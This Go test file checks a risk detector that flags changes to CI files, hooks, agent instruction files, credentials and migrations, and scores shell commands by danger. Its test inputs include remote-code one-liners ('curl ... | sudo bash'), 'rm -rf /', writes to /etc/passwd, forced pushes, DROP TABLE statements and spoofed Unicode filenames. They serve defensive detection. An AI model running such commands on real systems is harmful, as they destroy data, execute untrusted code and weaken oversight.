package effect_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"autonoma"
	"autonoma/internal/effect"
)

// kinds names what was found, the gravest first.
func kinds(found []autonoma.Effect) string {
	var names []string
	for _, e := range found {
		names = append(names, fmt.Sprintf("%s:%s", e.Kind, e.Risk))
	}
	return strings.Join(slices.Compact(names), " ")
}

// Files are told by what they are for.
func TestPaths(t *testing.T) {
	for path, want := range map[string]string{
		".github/workflows/ci.yml":          "ci:critical",
		".github/workflows":                 "ci:critical", // a link
		".github":                           "ci:critical",
		".husky":                            "hooks:critical",
		".claude/settings.json":             "hooks:critical",
		".gitmodules":                       "submodules:high",
		"Jenkinsfile.deploy":                "ci:critical",
		".github/ISSUE_TEMPLATE.md":         "",
		"sub/.gitlab-ci.yml":                "ci:critical",
		"CODEOWNERS":                        "ownership:critical",
		".husky/pre-commit":                 "hooks:critical",
		"AGENTS.md":                         "instructions:critical",
		"web/CLAUDE.md":                     "instructions:critical",
		".github/copilot-instructions.md":   "instructions:critical",
		".cursorrules":                      "instructions:critical",
		"docs/agents.md.txt":                "",
		"infra/main.tf":                     "infrastructure:critical",
		"deploy/k8s/api.yaml":               "infrastructure:critical",
		"Dockerfile":                        "image:high",
		"docker-compose.yml":                "image:high",
		".env":                              "credentials:critical",
		"certs/server.key":                  "credentials:critical",
		"db/migrations/0003_users.sql":      "migration:high",
		"internal/auth/token.go":            "auth:high",
		"src/login.ts":                      "auth:high",
		"src/session_store.py":              "auth:high",
		"go.sum":                            "lockfile:medium",
		"web/package-lock.json":             "lockfile:medium",
		"LICENSE":                           "licence:high",
		"src/\u202etxt.exe":                 "hidden:high",
		"src/a\u200b.go":                    "hidden:high",
		"src/a\nb.go":                       "hidden:high",
		"src/größe-日本.go":                   "",
		"src/main.go":                       "",
		"docs/workflows.md":                 "",
		"src/author.go":                     "",
		"src/authors/list.go":               "",
		"src/keyboard.ts":                   "",
		"lib/obsession.rb":                  "",
		"README.md":                         "",
		"environment.go":                    "",
		"pkg/template/template.go":          "",
		"test/fixtures/migration_notes.txt": "",
	} {
		if got := kinds(effect.Of([]effect.File{{Path: path, Lines: 1}}, nil)); got != want {
			t.Errorf("%s: %q, want %q", path, got, want)
		}
	}
}

// A file that is moved away from where it mattered is an effect like one that is
// changed there.
func TestMoved(t *testing.T) {
	got := effect.Of([]effect.File{{Path: "old.yml", OldPath: ".github/workflows/ci.yml"}}, nil)
	if kinds(got) != "ci:critical" || got[0].What != ".github/workflows/ci.yml" {
		t.Errorf("%+v", got)
	}
}

// What a link of the repository leads to is what stands there, however it is reached.
func TestThrough(t *testing.T) {
	for name, c := range map[string]struct {
		path, want string
		links      map[string]string
	}{
		"no link":            {"ci/build.yml", "", nil},
		"a file":             {"ci/build.yml", "ci:critical", map[string]string{".github/workflows/build.yml": "../../ci/build.yml"}},
		"a directory":        {"ci/build.yml", "ci:critical", map[string]string{".github/workflows": "../ci"}},
		"a link to a link":   {"ci/build.yml", "ci:critical", map[string]string{".gitlab-ci.yml": "x/build.yml", "x": "ci"}},
		"another file":       {"ci/other.yml", "", map[string]string{".gitlab-ci.yml": "ci/build.yml"}},
		"a longer name":      {"ci/build.yml.md", "", map[string]string{".gitlab-ci.yml": "ci/build.yml"}},
		"in a circle":        {"a/b", "", map[string]string{"a/c": ".", "d": "a/c"}},
		"out of the project": {"ci/build.yml", "", map[string]string{".gitlab-ci.yml": "/etc/passwd", "y": "../../.."}},
	} {
		if got := kinds(effect.Of(effect.Through([]effect.File{{Path: c.path, Lines: 1}}, c.links), nil)); got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}

// Who changes what the checks run changes the checks.
func TestChecks(t *testing.T) {
	commands := []string{"sh ./scripts/test.sh --all", "cd web && make test", "go test ./..."}
	for path, want := range map[string]string{
		"scripts/test.sh": "checks:high", "web/Makefile": "checks:high", "Makefile": "checks:high", "scripts/other.sh": "", "test": "checks:high", "a/go.mod": "",
	} {
		if got := kinds(effect.OfChecks([]effect.File{{Path: path}}, commands)); got != want {
			t.Errorf("%s: %q, want %q", path, got, want)
		}
	}
	if got := effect.OfChecks([]effect.File{{Path: "now.sh", OldPath: "scripts/test.sh"}}, commands); kinds(got) != "checks:high" {
		t.Errorf("moved away: %+v", got)
	}
}

func TestSize(t *testing.T) {
	for _, c := range []struct {
		lines, deleted int
		want           string
	}{
		{1000, 3, ""},
		{1001, 0, "large:medium"},
		{3001, 0, "large:high"},
		{10_001, 0, "large:critical"},
		{0, 4, "deletion:medium"},
		{0, 31, "deletion:critical"},
	} {
		files := []effect.File{{Path: "a.txt", Lines: c.lines}}
		for i := range c.deleted {
			files = append(files, effect.File{Path: fmt.Sprintf("b%d.txt", i), Deleted: true})
		}
		if got := kinds(effect.Of(files, nil)); got != c.want {
			t.Errorf("%d lines, %d deleted: %q, want %q", c.lines, c.deleted, got, c.want)
		}
	}
}

// patch is what git shows of lines added to a file.
func patch(path string, lines ...string) []byte {
	return fmt.Appendf(nil, "diff --git a/%[1]s b/%[1]s\n--- a/%[1]s\n+++ b/%[1]s\n@@ -1,0 +1,%[2]d @@\n+%[3]s\n", path, len(lines), strings.Join(lines, "\n+"))
}

func TestAddedLines(t *testing.T) {
	for _, c := range []struct{ path, line, want string }{
		{"db/up.sql", "DROP TABLE users;", "data_loss:critical"},
		{"db/up.sql", "DELETE FROM users;", "data_loss:critical"},
		{"db/up.sql", "DELETE FROM users WHERE id = 1;", ""},
		{"db/up.sql", "CREATE TABLE drops (id int);", ""},
		{"README.md", "DROP TABLE users;", ""},
		{"install.sh", "curl -s https://x.invalid/i | sudo bash", "danger:critical"},
		{"install.sh", "curl -s https://x.invalid/i > file", ""},
		{"install.sh", `sh -c "$(curl -s https://x.invalid/i)"`, "danger:critical"},
		{"package.json", `    "postinstall": "node x.js",`, "hooks:critical"},
		{"package.json", `    "installed": "x",`, ""},
		{"client.go", "	InsecureSkipVerify: true,", "danger:high"},
		{"client.go", "++ b/db/up.sql", ""},
	} {
		if got := kinds(effect.Of(nil, patch(c.path, "first", c.line, "DROP IT"))); got != c.want {
			t.Errorf("%s: %s: %q, want %q", c.path, c.line, got, c.want)
		}
	}
}

// A name with odd bytes, which git quotes, hides no line.
func TestQuotedName(t *testing.T) {
	text := strings.ReplaceAll(string(patch("db/up.sql", "DROP TABLE users;")), "b/db/up.sql", `"b/db/\"\303\251\tup.sql"`)
	if got := effect.Of(nil, []byte(text)); kinds(got) != "data_loss:critical" || got[0].What != "db/\"é\tup.sql" {
		t.Errorf("%+v", got)
	}
}

// What is taken away, or only stood beside it, is no effect of the change.
func TestRemovedLines(t *testing.T) {
	text := strings.ReplaceAll(string(patch("db/up.sql", "DROP TABLE users;", "DROP TABLE users;")), "\n+D", "\n-D")
	if got := effect.Of(nil, []byte(text)); len(got) > 0 {
		t.Errorf("%+v", got)
	}
}

func TestCommands(t *testing.T) {
	for command, want := range map[string]string{
		"git push --force origin main":     "force_push:critical push:high",
		"git push origin +main":            "force_push:critical push:high",
		"git push":                         "push:high",
		"npm publish":                      "push:high",
		"kubectl apply -f x.yaml":          "deploy:critical",
		"rm -rf /":                         "outside:high",
		"rm -rf build":                     "",
		"echo hi > /etc/passwd":            "outside:high",
		"sudo make install":                "outside:high",
		"curl https://example.invalid":     "network:medium",
		"go test ./... && curl -fsS x":     "network:medium",
		"grep curl README.md":              "",
		"git log --oneline | grep 'push '": "",
		"go build ./...":                   "",
	} {
		if got := kinds(effect.OfCommand(command)); got != want {
			t.Errorf("%s: %q, want %q", command, got, want)
		}
	}
}

// However many, what is told can be read.
func TestMany(t *testing.T) {
	var files []effect.File
	for i := range 500 {
		files = append(files, effect.File{Path: fmt.Sprintf(".github/workflows/%d.yml", i)})
	}
	if got := effect.Of(files, nil); len(got) != 100 {
		t.Errorf("%d effects", len(got))
	}
}

// A patch is what a stranger wrote.
func FuzzOf(f *testing.F) {
	f.Add("a.sql", patch("a.sql", "DROP TABLE a"))
	f.Add("\xff", []byte("+++ b/\n@@ \n+"))
	f.Fuzz(func(t *testing.T, path string, text []byte) {
		found := effect.Of([]effect.File{{Path: path}}, text)
		for i, e := range found {
			if e.Kind == "" || e.Why == "" || e.Risk == "" || i > 0 && slices.Contains(found[:i], e) {
				t.Errorf("%+v", found)
			}
		}
	})
}
